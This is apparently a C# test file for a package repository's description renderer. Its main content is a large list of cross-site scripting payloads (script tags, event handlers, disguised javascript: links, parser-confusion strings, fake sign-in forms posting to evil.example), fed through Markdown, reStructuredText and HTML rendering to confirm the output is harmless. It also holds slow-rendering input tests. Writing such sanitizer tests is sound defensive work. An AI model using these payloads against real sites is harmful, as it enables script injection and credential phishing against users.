using FsCheck;
using FsCheck.Fluent;
using PyRepo.Server.Content.Descriptions;
using PyRepo.Server.Platform.Admission;

namespace PyRepo.Server.Tests.Content.Descriptions;

/// <summary>Whatever somebody uploads as a description does nothing to those who read it.</summary>
[Trait("Cost", "high")]
public sealed class HostileDescriptionTests
{
    static readonly string[] _prefixes = ["", "text\n\n", "> ", "- ", "# ", "| a |\n|---|\n| ", "*", "<div>", "[", "`"];

    /// <summary>What begins each kind of block that text may stand in.</summary>
    static readonly string[] _blocks =
    [
        "a", "# ", "> # ", "- ", "[^1]: ", "[^1]\n\n[^1]: ", "| a |\n|---|\n| ", "<div>\n\n", "a\n\n",
    ];

    static readonly Arbitrary<string> _texts = Gen.Elements(
            "<", ">", "</", "/>", "<a href=", "<a id=main>", "</a>", "<img src=x onerror=alert(1) ", "<script>",
            "</script>", "<svg>", "<math>", "<style>", "</style>", "<table>", "<tr>", "<td>", "</table>", "<li>", "<p>",
            "</p>", "<b>", "<h1>", "</h1>", "</main>", "</div>", "<div>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "\"",
            "'", "=", "`", "```", "~~~", "*", "**", "_", "~~", "[", "]", "](", ")", "![", "#", "# ", "- ", "- [x] ",
            "1. ", "> ", "|", "\n", "\n\n", "|---|\n", "    ", "\t", "\0", "\r", "&", "&#x3c;", "&lt;", "&colon;",
            "javascript:", "data:text/html,", "https://a.example/", "mailto:", "http:", "//", "\\", ":", "x", " ", "é",
            "\ud800", "\u202e", "\u2028", "[^1]", "[^1]: ", "[x]: ", "www.", "<form>", "<input type=checkbox>", "<br>")
        .ArrayOf().Select(string.Concat).ToArbitrary();

    /// <summary>The kinds of attack that sanitizers and Markdown renderers have fallen for.</summary>
    public static TheoryData<string> Attacks => new()
    {
        // Elements that run scripts.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<script>alert(1)",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=https://evil.example/>",
        "<template><script>alert(1)</script></template>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<portal src=https://evil.example/></portal>",
        "<custom-element onclick=alert(1)>x</custom-element>",
        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<img src=x oNeRrOr=alert(1) alt=\"<script>alert(1)</script>\">",
        "<img/src='x'/onerror='alert(1)'>",
        "<img src=x:x onerror&#61;alert(1)>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<input autofocus onfocus=alert(1)>",
        "<p onmouseover=alert(1) tabindex=1>x</p>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<b/onclick=alert(1)//x>x</b>",
        "<a href=https://a.example onclick=alert(1)>x</a>",
        "<a href=\"https://a.example/\"onclick=\"alert(1)\">x</a>",
        "![x\" onerror=\"alert(1)](https://a.example/x.png)",
        "![x](https://a.example/x.png\"onerror=\"alert(1))",
        "[x](https://a.example/ \"\" onclick=alert(1) x=\"\")",
        // Addresses that run scripts, however they are spelled.
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](&#x01;javascript:alert(1))",
        "[x](\u00a0javascript:alert(1))",
        "[x](ja\\vascript:alert(1))",
        "[x](javascript\uff1aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://a.example/x)",
        "[x](view-source:javascript:alert(1))",
        "[x]\n\n[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=' &#14; javascript:alert(1)'>x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>",
        "<a href=javascript&#x3A;alert(1)>x</a>",
        "<a href=\"\u0000javascript:alert(1)\">x</a>",
        "<a href=https://a.example href=javascript:alert(1)>x</a>",
        "<a href=javascript:alert(1) href=https://a.example>x</a>",
        "<a HREF=javascript:alert(1)>x</a>",
        "<a href='https://evil.example\t/\n'>x</a>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[![x](javascript:alert(1))](javascript:alert(1))",
        // Addresses into this server, or dressed up as another's.
        "[x](/team-a/tokens/)",
        "[x](tokens/)",
        "[x](//evil.example/)",
        "[x](\\\\evil.example/)",
        "[x](?revoke=all)",
        "[x](https://pypi.example@evil.example/)",
        "[x](http:evil)",
        "[x](#main)",
        "<a href=#end>x</a>",
        // Tags that other parsers see where one sees text, and the reverse.
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?x ><img src=x onerror=alert(1)>",
        "</p/onclick=alert(1)>",
        "<img src=\"`\"onerror=alert(1)//`\">",
        "`<img src=x onerror=alert(1)>`",
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "```x\"><script>alert(1)</script>\nx\n```",
        "| <script> |\n|---|\n| </td></table><img src=x onerror=alert(1)> |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
        "<<script>alert(1)//<</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<div\u0000onclick=alert(1)>x</div>",
        // Leaving the place of the description, or taking over names of the page.
        "</div></main></body><h1>Sign in</h1>",
        "</div></div></pre></main><footer id=end>x</footer>",
        "<a id=main>x</a><a name=end>x</a>",
        "<form id=main action=https://evil.example/><input name=attributes><button>Sign in</button></form>",
        "<img name=cookie><img id=body>",
        "# main\n\n# main\n\n<h1 id=main>x</h1><h1 id=main>x</h1>",
        "<p class=\"banner description\" style=\"position:fixed;inset:0\">x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>*{display:none}</style>",
        "<style>@import 'https://evil.example/x.css'",
        "<td>x</td><li>x</li></ul></table>",
        "<dialog open>x</dialog><select><option>x</option></select>",
        "<p contenteditable accesskey=x popovertarget=main autofocus>x</p>",
        "<ol start='1\" onclick=alert(1)'><li>x</ol>",
        "<p align='center\" onclick=\"alert(1)'>x</p>",
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_text_or_nothing(string attack) => Assert.All(_prefixes, prefix =>
    {
        Assert.Empty(ShownDescription.OfMarkdown(prefix + attack).Problems());
        Assert.Empty(new ShownDescription(DescriptionHtml.Render(prefix + attack, "text/x-rst").Html).Problems());
        Assert.Empty(ShownDescription.OfHtml(prefix + attack).Problems());
    });

    [Fact]
    public void No_text_leaves_anything_unsafe() => Prop.ForAll(_texts, text =>
    {
        Assert.Empty(ShownDescription.OfMarkdown(text).Problems());
        Assert.Empty(ShownDescription.OfHtml(text).Problems());
        Assert.Empty(new ShownDescription(DescriptionHtml.Render(text, "text/x-rst").Html).Problems());
        return true;
    }).Check(Config.QuickThrowOnFailure.WithMaxTest(4000).WithEndSize(60));

    [Theory]
    [InlineData(">")]
    [InlineData("> ")]
    [InlineData("- ")]
    [InlineData("1. ")]
    [InlineData("> - ")]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("[a](")]
    [InlineData("*")]
    [InlineData("*a ")]
    [InlineData("**a *b ")]
    [InlineData("~~a ")]
    [InlineData("`a")]
    [InlineData("|")]
    [InlineData("<b>")]
    [InlineData("<b><p>")]
    [InlineData("x <b><p>")]
    [InlineData("<a href=x>")]
    [InlineData("<div>")]
    [InlineData("<table><tr><td>")]
    [InlineData("<h1>x")]
    [InlineData("# x\n")]
    [InlineData("<script>")]
    [InlineData("<!--")]
    [InlineData("&amp")]
    [InlineData("https://a.example ")]
    [InlineData("www.a.example ")]
    [InlineData("a@b.example ")]
    [InlineData("[^1] ")]
    [InlineData("[a]:\n")]
    [InlineData("a\n=\n")]
    [InlineData("\n")]
    [InlineData("[a](b")]
    [InlineData("[a](<b")]
    [InlineData("![a](b \"")]
    [InlineData("<a b=")]
    [InlineData("[a][b")]
    [InlineData("``a`")]
    [InlineData("*a_")]
    [InlineData("&")]
    [InlineData("a|")]
    public void A_repetitive_text_takes_less_than_a_second(string repeated)
    {
        ShownDescription.OfMarkdown("*warm*");
        // What is costly may stand anywhere: each kind of block has its own parser.
        Assert.All(_blocks, before =>
        {
            var html = RenderInASecond(
                before + string.Concat(Enumerable.Repeat(repeated, 256 * 1024 / repeated.Length)));
            Assert.StartsWith("<", html, StringComparison.Ordinal);
        });
    }

    [Fact]
    public void A_text_of_many_costly_blocks_takes_less_than_a_second_in_total()
    {
        var heading = "# " + string.Concat(Enumerable.Repeat("[a](b", 2400)) + "\n";
        var html = RenderInASecond(string.Concat(Enumerable.Repeat(heading, 21)));
        Assert.Contains("[a](b[a](b", html, StringComparison.Ordinal);
    }

    /// <summary>Code that is being compiled while it runs is slower, so that the second time may count.</summary>
    static string RenderInASecond(string text, string contentType = "text/markdown")
    {
        for (var time = 1; ; time++)
        {
            var began = ThreadTime.OfCurrent();
            var html = DescriptionHtml.Render(text, contentType).Html;
            if (ThreadTime.OfCurrent() - began is var took && took <= TimeSpan.FromSeconds(1))
                return html;
            Assert.True(time < 3, $"It took {took}.");
        }
    }

    [Fact]
    public void An_address_that_is_linked_from_everywhere_does_not_become_a_multiple_of_the_text()
    {
        var address = "https://a.example/" + new string('x', 1900);
        var markdown = $"[a]: {address}\n\n" + string.Concat(Enumerable.Repeat("[a] [a] [a] [a] [a] [a]\n\n", 8_000));
        Assert.InRange(RenderInASecond(markdown).Length, 1, 4 << 20);
        var rst = $".. _a: {address}\n\n" + string.Concat(Enumerable.Repeat("a_ ", 80_000));
        Assert.InRange(RenderInASecond(rst, "text/x-rst").Length, 1, 4 << 20);
    }

    [Fact]
    public void Nested_lists_before_many_lines_are_rendered_quickly()
    {
        var nested = string.Concat(Enumerable.Repeat("- ", 60)) + "a" + new string('\n', 200_000);
        Assert.StartsWith("<pre", DescriptionHtml.Render(nested + "b", "text/markdown").Html, StringComparison.Ordinal);
    }
}
